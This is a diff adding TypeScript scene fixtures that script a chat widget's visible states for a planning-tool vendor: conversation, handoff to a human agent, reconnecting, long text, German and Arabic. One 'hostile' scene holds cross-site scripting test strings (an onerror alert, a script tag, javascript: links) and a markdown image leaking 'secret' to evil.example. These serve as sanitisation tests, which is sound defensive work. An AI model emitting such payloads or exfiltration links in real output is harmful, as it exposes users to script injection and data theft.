@@ -1,0 +1,153 @@
+import type { LogEvent, MessageId } from '@baton/shared-types';
+import { log, SITE_DE } from './script-events.js';
+import type { ScriptedClient } from './scripted-client.js';
+
+type Scene = (client: ScriptedClient) => void;
+
+const ANSWER =
+  'Tidewater has three plans. For a team of 40 people the **Harbour** plan fits best:\n\n- unlimited projects and guests\n- import from spreadsheets and from most tools\n- support by people, weekdays from 8 to 18\n\nIt is billed per person and month. What are you using *today*?';
+
+const CONVERSATION = [
+  log.visitor('Hi! We are about 40 people and look for a planning tool.', { after: 0, minutesAgo: 9 }),
+  log.visitor('What would Tidewater cost us?', { after: 1, minutesAgo: 9 }),
+  log.assistant(ANSWER, {
+    after: 2,
+    minutesAgo: 8,
+    citations: [
+      { title: 'Plans and prices', url: 'https://tidewater.example/prices' },
+      { title: 'Imports', url: null },
+    ],
+    quickReplies: ['Spreadsheets', 'Another planning tool', 'Nothing yet'],
+  }),
+] as const;
+
+const WAITING: readonly LogEvent[] = [
+  ...CONVERSATION,
+  log.visitor('I would like to talk to a person.', { after: 3, minutesAgo: 6 }),
+  log.handoffRequested({ after: 4, minutesAgo: 6 }),
+  log.queued({ after: 5, minutesAgo: 6 }),
+  log.assistant('I am asking the team. It usually takes less than **two minutes**; you can go on writing.', {
+    after: 6,
+    minutesAgo: 6,
+  }),
+];
+
+const WITH_AGENT: readonly LogEvent[] = [
+  ...WAITING,
+  log.accepted({ after: 7, minutesAgo: 4 }),
+  log.owned({ after: 8, minutesAgo: 4 }),
+  log.agent('Hello, this is Mara. I have read what you wrote: 40 people, moving from spreadsheets.', {
+    after: 9,
+    minutesAgo: 3,
+  }),
+  log.agent('Shall we look at the import together? I can show you in ten minutes.', {
+    after: 10,
+    minutesAgo: 3,
+  }),
+  log.visitor('Yes, that would be great!', { after: 11, minutesAgo: 1 }),
+];
+
+const LONG_WORD = 'https://tidewater.example/'.padEnd(180, 'a-very-long-path/');
+
+/** Every visible state of the chat, by name. */
+export const SCENES: Readonly<Record<string, Scene>> = {
+  empty: () => undefined,
+  conversation: (client) => client.play(CONVERSATION),
+  streaming(client) {
+    client.play([...CONVERSATION.slice(0, 2)]);
+    client.set({ streaming: { messageId: 'msg_3' as MessageId, text: ANSWER.slice(0, 190) } });
+  },
+  typing(client) {
+    client.play([...CONVERSATION.slice(0, 2)]);
+    client.set({ peerTyping: { who: 'assistant', name: null } });
+  },
+  waiting: (client) => client.play(WAITING),
+  unattended: (client) => client.play([...WAITING, log.expired({ after: 7 })]),
+  agent(client) {
+    client.play(WITH_AGENT);
+    client.set({ peerTyping: { who: 'agent', name: 'Mara Lindqvist' } });
+  },
+  interrupted: (client) =>
+    client.play([
+      ...CONVERSATION.slice(0, 2),
+      log.assistant('Tidewater has three plans. For a team of 40', { after: 2, interrupted: true }),
+      log.accepted({ after: 3 }),
+      log.owned({ after: 4 }),
+      log.agent('Hello, Mara here, a real person. I can tell you right away.', { after: 5 }),
+    ]),
+  closed: (client) => client.play([...WITH_AGENT, log.closed({ after: 12 })]),
+  failed(client) {
+    client.play([...CONVERSATION]);
+    client.set({
+      pending: [
+        { clientId: 'a', text: 'We use spreadsheets.', kind: 'text', state: 'failed', error: null },
+        { clientId: 'b', text: 'About 30 of them, to be honest.', kind: 'text', state: 'sent', error: null },
+      ],
+    });
+  },
+  reconnecting(client) {
+    client.play([...CONVERSATION]);
+    client.set({
+      connection: { kind: 'waiting', retryAt: Date.now() + 4_000, attempt: 2 },
+      pending: [{ clientId: 'a', text: 'We use spreadsheets.', kind: 'text', state: 'queued', error: null }],
+    });
+  },
+  unreachable: (client) =>
+    client.set({ session: null, connection: { kind: 'waiting', retryAt: Date.now() + 4_000, attempt: 3 } }),
+  loading: (client) => client.set({ session: null, connection: { kind: 'connecting' } }),
+  stopped: (client) =>
+    client.set({
+      session: null,
+      connection: { kind: 'stopped', error: { code: 'site_refused', message: '' } },
+    }),
+  outdated(client) {
+    client.play([...CONVERSATION]);
+    client.set({ connection: { kind: 'stopped', error: { code: 'protocol_unsupported', message: '' } } });
+  },
+  long: (client) =>
+    client.play([
+      log.visitor(
+        `${LONG_WORD} ${'We plan the work of many teams in many places. '.repeat(80)}`.slice(0, 4_000),
+        {
+          after: 0,
+          minutesAgo: 3,
+        },
+      ),
+      log.assistant(
+        `Here it is: ${LONG_WORD}\n\n${'1. One more step, described at length so that it wraps.\n'.repeat(12)}`,
+        {
+          after: 1,
+        },
+      ),
+    ]),
+  hostile: (client) =>
+    client.play([
+      log.visitor('<img src=x onerror=alert(1)> <b>bold?</b>', { after: 0, minutesAgo: 3 }),
+      log.assistant(
+        '<script>alert(1)</script> [click](javascript:alert(1)) ![pixel](https://evil.example/?q=secret) [ok](https://tidewater.example)',
+        { after: 1, citations: [{ title: 'Bad source', url: 'javascript:alert(1)' }] },
+      ),
+    ]),
+  german: (client) => {
+    client.set({ session: SITE_DE });
+    client.play([
+      log.visitor('Guten Tag, wir sind etwa 40 Leute. Was würde Tidewater kosten?', {
+        after: 0,
+        minutesAgo: 4,
+      }),
+      log.assistant('Für 40 Personen passt der Tarif **Hafen** am besten. Womit planen Sie heute?', {
+        after: 1,
+        minutesAgo: 3,
+        quickReplies: ['Tabellen', 'Ein anderes Werkzeug', 'Noch gar nicht'],
+      }),
+    ]);
+  },
+  arabic: (client) =>
+    client.play([
+      log.visitor('مرحبًا، نحن أربعون شخصًا. كم يكلف Tidewater؟', { after: 0, minutesAgo: 4 }),
+      log.assistant('أهلًا بك! خطة **Harbour** هي الأنسب لكم.', {
+        after: 1,
+        quickReplies: ['جداول', 'أداة أخرى'],
+      }),
+    ]),
+};
